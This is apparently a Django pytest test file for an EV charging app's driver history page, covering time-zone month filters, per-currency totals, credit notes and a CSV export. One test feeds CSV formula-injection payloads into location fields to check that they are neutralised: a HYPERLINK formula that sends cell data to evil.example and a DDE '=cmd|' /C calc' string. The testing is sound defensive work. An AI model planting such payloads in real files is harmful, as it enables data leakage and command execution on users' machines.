"""The driver's charging history page: their sessions with date, place, energy, duration and
price (the invoice's total less its credit notes, or the running estimate), filtered by month
or year in the driver's time zone, monthly totals per currency, and the CSV export (escaped,
formula-safe)."""

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone, translation

from billing.selectors_history import history_monthly_totals, history_session_list, month_period
from billing.templatetags.billing_money import energy
from tests.billing.factories import (
    CreditNoteFactory,
    InvoiceFactory,
    LocationFactory,
    SessionCostFactory,
    SessionFactory,
)
from tests.roaming.factories import TokenFactory

pytestmark = pytest.mark.django_db
AMSTERDAM = ZoneInfo("Europe/Amsterdam")
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def token(driver):
    return TokenFactory(user=driver)


def at(*args) -> datetime:
    return datetime(*args, tzinfo=UTC)


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_the_page_shows_each_session_with_place_energy_duration_price_and_invoice(
    driver_client, token
):
    start = timezone.now() - timedelta(days=3)
    invoiced = SessionFactory(
        token=token,
        location=LocationFactory(name="Stationsplein", city="Utrecht"),
        start_date_time=start,
        end_date_time=start + timedelta(minutes=95),
        kwh=Decimal("31.25"),
    )
    invoice = InvoiceFactory(session=invoiced, total_incl_vat=Decimal("12.34"))
    running = SessionFactory(
        token=token,
        location=LocationFactory(name="Marktplein", city="Gouda"),
        start_date_time=timezone.now() - timedelta(minutes=30),
        end_date_time=None,
        status="ACTIVE",
    )
    SessionCostFactory(session=running, total_incl_vat=Decimal("3.1000"))

    response = driver_client.get("/account/history/")

    assert response.status_code == 200
    page = response.content.decode()
    assert "Stationsplein" in page
    assert "Utrecht" in page
    assert "31.25 kWh" in page
    assert "95 min" in page
    assert "12.34 EUR" in page
    assert invoice.number in page
    assert f"/account/invoices/{invoice.pk}/" in page
    assert f"/account/sessions/{invoiced.pk}/" in page
    assert "Marktplein" in page
    assert "3.10 EUR" in page
    assert "(estimate)" in page
    assert "charging now" in page


def test_the_old_sessions_address_leads_to_the_history(driver_client):
    response = driver_client.get("/account/sessions/")

    assert response.status_code == 301
    assert response["Location"] == "/account/history/"


def test_another_drivers_sessions_are_absent_from_the_page_and_the_export(
    client, driver, other_driver, token
):
    SessionFactory(token=token, location=LocationFactory(name="Mine"))
    SessionFactory(token=TokenFactory(user=other_driver), location=LocationFactory(name="Theirs"))
    client.force_login(driver)

    page = client.get("/account/history/").content.decode()
    exported = rows_of(client.get("/account/history/export.csv"))

    assert "Mine" in page
    assert "Theirs" not in page
    assert [row[4] for row in exported[1:]] == ["Mine"]


@pytest.mark.parametrize(
    ("month", "expected"),
    [
        ("2026-02", ["feb-last-hour-local"]),
        ("2026-03", ["mar-first-hour-local", "mar-last-hour-local"]),
        ("2026-04", ["apr-first-hour-local"]),
    ],
    ids=["february", "march", "april"],
)
def test_month_boundaries_are_the_drivers_midnights_not_utc(token, month, expected):
    sessions = {
        # 2026-02-28 23:30 in Amsterdam (UTC+1)
        "feb-last-hour-local": at(2026, 2, 28, 22, 30),
        # 2026-03-01 00:30 in Amsterdam, still February in UTC
        "mar-first-hour-local": at(2026, 2, 28, 23, 30),
        # 2026-03-31 23:30 in Amsterdam (UTC+2 since the 29th)
        "mar-last-hour-local": at(2026, 3, 31, 21, 30),
        # 2026-04-01 00:30 in Amsterdam, still March in UTC
        "apr-first-hour-local": at(2026, 3, 31, 22, 30),
    }
    for ocpi_id, start in sessions.items():
        SessionFactory(token=token, ocpi_id=ocpi_id, start_date_time=start)
    year, number = map(int, month.split("-"))

    found = history_session_list(
        user=token.user, period=month_period(year=year, month=number, tz=AMSTERDAM)
    )

    assert sorted(found.values_list("ocpi_id", flat=True)) == sorted(expected)


def test_the_month_filter_on_the_page(driver_client, token):
    SessionFactory(
        token=token, location=LocationFactory(name="InMarch"), start_date_time=at(2026, 3, 10, 9)
    )
    SessionFactory(
        token=token, location=LocationFactory(name="InApril"), start_date_time=at(2026, 4, 2, 9)
    )

    page = driver_client.get("/account/history/?month=2026-03").content.decode()
    year = driver_client.get("/account/history/?year=2026").content.decode()

    assert "InMarch" in page
    assert "InApril" not in page
    assert "InMarch" in year
    assert "InApril" in year


@pytest.mark.parametrize(
    "query",
    [
        "month=2026-13",
        "month=26-03",
        "month=2026-3",
        "year=20x6",
        "year=0999",
        "month=2026-03&month=2026-04",
    ],
    ids=["month-13", "short-year", "one-digit-month", "not-a-year", "year-0999", "month-twice"],
)
def test_a_bad_filter_is_refused_with_400_and_says_why(driver_client, token, query):
    SessionFactory(token=token, location=LocationFactory(name="Somewhere"))

    response = driver_client.get(f"/account/history/?{query}")
    export = driver_client.get(f"/account/history/export.csv?{query}")

    assert response.status_code == 400
    assert 'class="errorlist' in response.content.decode()
    assert "Somewhere" not in response.content.decode().split('id="sessions-heading"')[1]
    assert export.status_code == 400
    assert export["Content-Type"].startswith("text/html")


def test_monthly_totals_per_currency_summed_in_one_query(token, django_assert_num_queries):
    now = at(2026, 6, 15, 12)
    eur_a = SessionFactory(token=token, start_date_time=at(2026, 6, 1, 8), kwh=Decimal("10"))
    InvoiceFactory(session=eur_a, total_incl_vat=Decimal("4.10"))
    eur_b = SessionFactory(token=token, start_date_time=at(2026, 6, 2, 8), kwh=Decimal("5.5"))
    SessionCostFactory(session=eur_b, total_incl_vat=Decimal("2.0050"))
    gbp = SessionFactory(
        token=token, start_date_time=at(2026, 6, 3, 8), currency="GBP", kwh=Decimal("7")
    )
    InvoiceFactory(session=gbp, currency="GBP", total_incl_vat=Decimal("3.00"))
    # 00:30 on 1 June in Amsterdam (still May in UTC), and 23:00 on 31 May
    june_first = SessionFactory(token=token, start_date_time=at(2026, 5, 31, 22, 30), kwh=1)
    InvoiceFactory(session=june_first, total_incl_vat=Decimal("1.00"))
    SessionFactory(token=token, start_date_time=at(2026, 5, 31, 21), kwh=Decimal("2"))
    SessionFactory(token=token, start_date_time=at(2025, 6, 30, 8))  # 12 months before: out
    SessionFactory(token=TokenFactory(), start_date_time=at(2026, 6, 1, 8))  # someone else's

    with django_assert_num_queries(1):
        totals = history_monthly_totals(user=token.user, tz=AMSTERDAM, now=now)

    assert [
        (t.month.isoformat(), t.currency, t.sessions, t.energy_kwh, t.amount, t.sessions_estimated)
        for t in totals
    ] == [
        ("2026-06-01", "EUR", 3, Decimal("16.5"), Decimal("7.1050"), 1),
        ("2026-06-01", "GBP", 1, Decimal("7"), Decimal("3.00"), 0),
        ("2026-05-01", "EUR", 1, Decimal("2"), Decimal("0"), 0),
    ]


def test_what_credit_notes_gave_back_is_netted_in_the_price_and_the_totals(token):
    now = at(2026, 6, 15, 12)
    refunded = SessionFactory(token=token, start_date_time=at(2026, 6, 1, 8), kwh=Decimal("10"))
    invoice = InvoiceFactory(session=refunded, total_incl_vat=Decimal("10.00"))
    CreditNoteFactory(invoice=invoice, total_incl_vat=Decimal("2.50"))
    CreditNoteFactory(invoice=invoice, total_incl_vat=Decimal("1.25"))
    paid = SessionFactory(token=token, start_date_time=at(2026, 6, 2, 8), kwh=Decimal("5"))
    InvoiceFactory(session=paid, total_incl_vat=Decimal("4.00"))
    other = InvoiceFactory(session=SessionFactory(start_date_time=at(2026, 6, 1, 9)))
    CreditNoteFactory(invoice=other, total_incl_vat=Decimal("3.00"))  # someone else's

    prices = {s.pk: s.price for s in history_session_list(user=token.user)}
    totals = history_monthly_totals(user=token.user, tz=AMSTERDAM, now=now)

    assert prices == {refunded.pk: Decimal("6.25"), paid.pk: Decimal("4.00")}
    assert [(t.sessions, t.amount) for t in totals] == [(2, Decimal("10.25"))]


def test_the_page_shows_the_monthly_totals(driver_client, token):
    start = timezone.now() - timedelta(hours=5)
    InvoiceFactory(
        session=SessionFactory(token=token, start_date_time=start), total_incl_vat=Decimal("8.47")
    )
    InvoiceFactory(
        session=SessionFactory(token=token, start_date_time=start, currency="JPY"),
        currency="JPY",
        total_incl_vat=Decimal("1235"),
    )

    page = driver_client.get("/account/history/").content.decode()
    table = page.split('id="monthly-totals"')[1].split("</table>")[0]

    assert "8.47 EUR" in table
    assert "1235 JPY" in table
    assert f"?month={timezone.localtime(start, AMSTERDAM):%Y-%m}" in table


def test_the_list_is_paginated_and_the_pages_keep_the_filter(driver_client, token):
    for day in range(1, 28):
        SessionFactory(token=token, start_date_time=at(2026, 3, day, 9))

    first = driver_client.get("/account/history/?month=2026-03").content.decode()
    second = driver_client.get("/account/history/?month=2026-03&page=2").content.decode()

    assert first.count("/account/sessions/") == 25
    assert "?month=2026-03&amp;page=2" in first
    assert second.count("/account/sessions/") == 2


def test_the_csv_has_one_row_per_session_with_amounts_as_strings_and_currency(driver_client, token):
    location = LocationFactory(
        name='Garage "Zuid", level -1', city="Den Haag", address="Laan 1\nachter"
    )
    first = SessionFactory(
        token=token,
        location=location,
        start_date_time=at(2026, 3, 10, 8, 0),
        end_date_time=at(2026, 3, 10, 9, 30),
        kwh=Decimal("22.500000"),
    )
    invoice = InvoiceFactory(session=first, total_incl_vat=Decimal("9.3200"))
    second = SessionFactory(
        token=token, location=location, start_date_time=at(2026, 3, 12, 8), currency="JPY"
    )
    SessionCostFactory(session=second, currency="JPY", total_incl_vat=Decimal("1235.0000"))

    response = driver_client.get("/account/history/export.csv?month=2026-03")

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="charging-history-2026-03.csv"' in response["Content-Disposition"]
    rows = rows_of(response)
    assert rows[0][:4] == ["session_id", "start", "end", "time_zone"]
    header = rows[0]
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert records[0] == {
        "session_id": str(first.pk),
        "start": "2026-03-10T09:00:00+01:00",
        "end": "2026-03-10T10:30:00+01:00",
        "time_zone": "Europe/Amsterdam",
        "location": 'Garage "Zuid", level -1',
        "address": "Laan 1\nachter",
        "city": "Den Haag",
        "country": "NLD",
        "energy_kwh": "22.5",
        "duration_minutes": "90",
        "amount": "9.32",
        "currency": "EUR",
        "price_status": "invoiced",
        "invoice_number": invoice.number,
    }
    assert (records[1]["amount"], records[1]["currency"], records[1]["price_status"]) == (
        "1235",
        "JPY",
        "estimate",
    )


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        (HOSTILE, "'" + HOSTILE),
        ("+31 20 123", "'+31 20 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("Plain, with comma", "Plain, with comma"),
    ],
    ids=["hyperlink-formula", "plus", "minus", "at", "tab", "comma-quoted"],
)
def test_a_hostile_location_name_cannot_run_as_a_formula(driver_client, token, name, cell):
    SessionFactory(token=token, location=LocationFactory(name=name, city="=cmd|' /C calc'!A0"))

    response = driver_client.get("/account/history/export.csv")

    body = b"".join(response.streaming_content).decode()
    row = list(csv.reader(io.StringIO(body)))[1]
    assert row[4] == cell
    assert row[6] == "'=cmd|' /C calc'!A0"
    assert "\n=" not in body
    assert ",=" not in body


def test_signed_out_visitors_are_sent_to_log_in(client):
    for path in ("/account/history/", "/account/history/export.csv"):
        response = client.get(path)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")


def test_the_page_makes_as_many_queries_for_20_sessions_as_for_3(driver_client, token):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert driver_client.get("/account/history/").status_code == 200
        return len(captured)

    for _ in range(3):
        InvoiceFactory(session=SessionFactory(token=token))
    few = queries()
    for _ in range(17):
        InvoiceFactory(session=SessionFactory(token=token))

    assert queries() == few


@pytest.mark.parametrize(
    ("kwh", "language", "shown"),
    [
        ("20.500000", "en", "20.5"),
        ("41.000000", "en", "41"),
        ("12.345600", "en", "12.346"),
        ("0.000400", "en", "0"),
        ("20.500000", "de", "20,5"),
    ],
)
def test_energy_is_shown_to_three_decimals_without_trailing_zeros(kwh, language, shown):
    with translation.override(language):
        assert energy(Decimal(kwh)) == shown
